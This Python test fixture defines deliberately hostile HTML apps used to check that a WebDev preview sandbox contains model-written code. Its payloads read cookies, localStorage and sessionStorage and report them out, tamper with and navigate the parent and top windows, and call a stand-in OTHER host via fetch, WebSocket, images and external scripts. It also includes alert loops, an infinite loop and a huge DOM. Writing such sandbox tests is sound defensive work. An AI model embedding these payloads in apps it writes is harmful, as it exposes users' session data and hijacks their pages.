"""Apps written to escape the WebDev preview. Each leaves evidence if it gets out.

Evidence a test can see from outside the frame: a request whose URL holds ``STEAL``
(the network), the parent page's title or URL changing (the parent, the top window),
a new page (pop-ups), a dialog (modals), or a secret showing up in the page's text
(the app reads cookies or storage and reports them as its "error", which the page
displays). The apps are plain HTML documents in a fenced block, as a model would
write them; the parrot test models say them back as their reply. ``OTHER`` stands for
another host the app would like to reach: the test puts a live server's address there,
so a request that got out would be answered and seen.
"""

from __future__ import annotations

# The app tries the escape; on success it reports what it got as its error text.
REPORT = "function leak(x){parent.postMessage({arenaPreview:1,status:'error',error:'LEAK:'+x},'*')}"


def hostile(name: str, other: str) -> str:
    """The app ``name`` with ``OTHER`` pointing at a live server (``http://host:port``)."""
    return HOSTILE[name].replace("wsOTHER", other.replace("http", "ws", 1)).replace("OTHER", other)


def app(body: str, head: str = "") -> str:
    return (
        "Here is the app.\n\n```html\n<!DOCTYPE html><html><head><title>t</title>"
        f"{head}<script>{REPORT}</script></head><body><p>app</p>{body}</body></html>\n```"
    )


def script(code: str) -> str:
    return app(f"<script>try{{{code}}}catch(e){{}}</script>")


HOSTILE: dict[str, str] = {
    "read-parent-document": script("leak(parent.document.title); parent.document.title='PWNED'"),
    "top-navigation": script("top.location.href='/STEAL-top'"),
    "top-link-click": app(
        "<a id=l target=_top href='/STEAL-toplink'>x</a>"
        "<script>document.getElementById('l').click()</script>"
    ),
    "cookies": script("leak(document.cookie)"),
    "local-storage": script("leak(localStorage.getItem('arena-secret'))"),
    "session-storage": script("leak(sessionStorage.length)"),
    "indexeddb": script("indexedDB.open('x').onsuccess=function(){leak('idb')}"),
    "fetch-api": script("fetch('/api/v1/STEAL-fetch').then(function(r){leak(r.status)})"),
    "fetch-other-port": script("fetch('OTHER/STEAL-port').then(function(){leak('port')})"),
    "xhr": script("var x=new XMLHttpRequest();x.open('GET','/STEAL-xhr');x.send()"),
    "websocket": script("new WebSocket('wsOTHER/STEAL-ws')"),
    "event-source": script("new EventSource('/STEAL-sse')"),
    "beacon": script("navigator.sendBeacon('/STEAL-beacon','x')"),
    "image-pixel": app("<img src='OTHER/STEAL-img.png'>"),
    "css-background": app("<div style=\"background:url('/STEAL-css.png');height:9px\"></div>"),
    "external-script": app("", head="<script src='OTHER/STEAL-script.js'></script>"),
    "stylesheet-link": app("", head="<link rel=stylesheet href='/STEAL-style.css'>"),
    "prefetch-link": app("", head="<link rel=prefetch href='/STEAL-prefetch'>"),
    "window-open": script("var w=window.open('/STEAL-popup'); if(w) leak('popup')"),
    "form-post": app(
        "<form id=f method=post action='/STEAL-form'><input name=a value=b></form>"
        "<script>document.getElementById('f').submit()</script>"
    ),
    "alert-loop": script("for(var i=0;i<200;i++){alert(i)} confirm('x'); prompt('y')"),
    "service-worker": script("navigator.serviceWorker.register('/STEAL-sw.js')"),
    "nested-frame": app("<iframe src='/STEAL-frame'></iframe>"),
    "self-navigation": script("location.href='OTHER/STEAL-nav'"),
    "meta-refresh": app("", head="<meta http-equiv='refresh' content='0;url=/STEAL-meta'>"),
}

# These must not freeze the voter's page; the voter stops them.
HEAVY: dict[str, str] = {
    "infinite-loop": app("<script>while(true){}</script>"),
    "huge-dom": app(
        "<script>var s='';for(var i=0;i<200000;i++){s+='<div>'+'x'.repeat(250)+'</div>'}"
        "document.body.innerHTML=s;</script>"
    ),
}

NORMAL_COUNTER = app(
    '<button id=c onclick="this.textContent=String(Number(this.textContent)+1)">0</button>'
)
NORMAL_CANVAS = app(
    "<canvas id=g width=200 height=100></canvas><p id=s>score 0</p><script>"
    "var c=document.getElementById('g'),x=c.getContext('2d'),n=0;x.fillRect(10,10,20,20);"
    "c.addEventListener('click',function(){n++;document.getElementById('s').textContent='score '+n;"
    "x.fillRect(10+n*25,10,20,20)});</script>"
)
REACT_COUNTER = (
    'A counter in React.\n\n```tsx\nimport { useState } from "react";\n'
    "export default function App() {\n  const [n, setN] = useState(0);\n"
    '  return <button id="r" className="rounded bg-blue-600 px-4 py-2 text-white" '
    "onClick={() => setN(n + 1)}>clicked {n}</button>;\n}\n```"
)
REACT_BROKEN = "```tsx\nexport default function App() { return <div>{missing.value}</div>; }\n```"
